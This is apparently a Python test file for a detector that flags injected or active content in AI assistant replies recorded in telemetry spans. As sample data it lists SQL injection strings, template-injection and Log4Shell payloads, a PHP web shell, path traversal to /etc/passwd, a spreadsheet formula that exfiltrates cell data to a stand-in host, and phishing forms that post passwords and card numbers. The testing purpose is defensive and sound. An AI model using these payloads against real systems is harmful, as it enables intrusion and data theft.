"""Answers that run where they are shown are told of; the pass that chooses what is read leaves none of them out."""

from __future__ import annotations

import msgspec
import numpy as np
import pytest
from hypothesis import given
from hypothesis import strategies as st

from treering.detect import active_output
from treering.detect._active_forms import FORMS
from treering.testing.detector_contract import detector, rows

PIECES = [
    "or",
    "from",
    "set ",
    "table",
    "-e",
    "(",
    "\u00a0",
    "eval",
    "drop",
    "for",
    "nc",
    "rm ",
    "Update",
    " ",
    "<",
    "-",
    "--",
    "/",
    "\\",
    "é",
    "“",
    "\n",
    "delete ",
    "_",
    "{{",
    "{%",
    "$",
    "{",
    "union",
    "/**/",
    "' or ",
    "1=1",
    '"',
    "../",
    "sleep(",
]


ATTACKS = {
    "script": ["<meta http-equiv='refresh' content='0;url=//e.example'>", '<base href="https://e.example/">'],
    "login_form": [
        "<FORM METHOD=POST ACTION=//check.example><INPUT TYPE=PASSWORD NAME=p></FORM>",
        '<form action="http://203.0.113.9/x"><label>Card</label><input name="cardnumber"></form>',
    ],
    "sql_injection": [
        "shoes'/**/UNION/**/SELECT/**/1,2,3",
        "105; UPDATE accounts SET role='admin' WHERE id=7; --",
        "blue'); TRUNCATE TABLE orders;--",
        '" OR ""="',
        "7 AND SLEEP(5)",
    ],
    "template": [
        "Hello {{ ''.__class__.__mro__[1] }}",
        "${T(java.lang.Runtime).getSystem().exec('id')}",
        "Dear <%= File.open('/srv/keys').read %>",
        "Customer: ${jndi:ldap://e.example/a}",
        "<?php system($_GET['c']); ?>",
        "#{7*7}",
    ],
    "exploit": [
        "__import__('os').system('id')",
        "../../../../etc/passwd",
        '=HYPERLINK("https://e.example/?d="&A1,"open")',
        "Hello%0d%0aSet-Cookie: session=e",
    ],
}
ANSWERS = st.lists(
    st.lists(st.sampled_from([*PIECES, *(said for kind in ATTACKS.values() for said in kind)]), max_size=8).map(
        "".join
    ),
    min_size=1,
    max_size=5,
)
HARMLESS = [
    ("SELECT name FROM a UNION SELECT name FROM b removes duplicates.", "What does UNION do in SQL?"),
    ("In a template {{ 7*7 }} gives 49.", "What do braces do in Jinja?"),
    ("Hi {{customer.first_name | default: 'there'}}, {% if late %}sorry{% endif %}!", "A greeting for our mailing?"),
    ("Dear <%= name %>, it costs ${price} or ${10 + 5}.", "A greeting for our mailing?"),
    ("The credit union: select offers; the boss' list of 9; update your app.", "News?"),
    ("Choose 1; select a size from the list. Use 5 or 1=1 cups.", "How?"),
    ('You find it with <form action="/search"><input name="q"></form>', "Where?"),
    ("The area is \\frac{{7*7}}{2}; sleep (7 hours).", "What is it?"),
    ("It is in ../../docs/readme.txt", "Where is the file?"),
]


def answered(said: str, question: str = "Use promo code SPRING, please. What now?") -> set[str]:
    messages = {
        f"gen_ai.{way}.messages": msgspec.json.encode(
            [{"role": role, "parts": [{"type": "text", "content": text}]}]
        ).decode()
        for way, role, text in (("input", "user", question), ("output", "assistant", said))
    }
    found = detector(active_output).observe(rows("spans", [{"@timestamp": 1, "attributes": messages}]))
    return {finding.rule for finding in found}


@pytest.mark.parametrize("kind", ATTACKS)
def test_what_runs_is_told_of_a_service_seen_for_the_first_time(kind: str) -> None:
    assert {said: answered(said) for said in ATTACKS[kind]} == {said: {kind} for said in ATTACKS[kind]}


def test_placeholders_prose_and_what_was_asked_for_are_none() -> None:
    assert not {said: rules for said, question in HARMLESS if (rules := answered(said, question))}


def test_what_is_told_must_be_asked_for_in_the_words_of_its_kind() -> None:
    assert answered("Dear {{7*7}}", "Which discount code is mine?") == {"template"}
    assert not answered("Dear {{7*7}}", "Which code is for templates?")


@given(ANSWERS)
def test_no_answer_that_holds_a_form_is_left_out(answers: list[str]) -> None:
    said = [
        msgspec.json.encode([{"role": "assistant", "parts": [{"type": "text", "content": text}]}]).decode()
        for text in answers
    ]
    records = [{"@timestamp": 1, "attributes": {"gen_ai.output.messages": text}} for text in said]
    chosen = active_output._signed(rows("spans", records), np.arange(len(said)))
    for number, text in enumerate(answers):
        assert number in chosen or not any(active_output._found(kind, text, text.casefold()) for kind in FORMS)
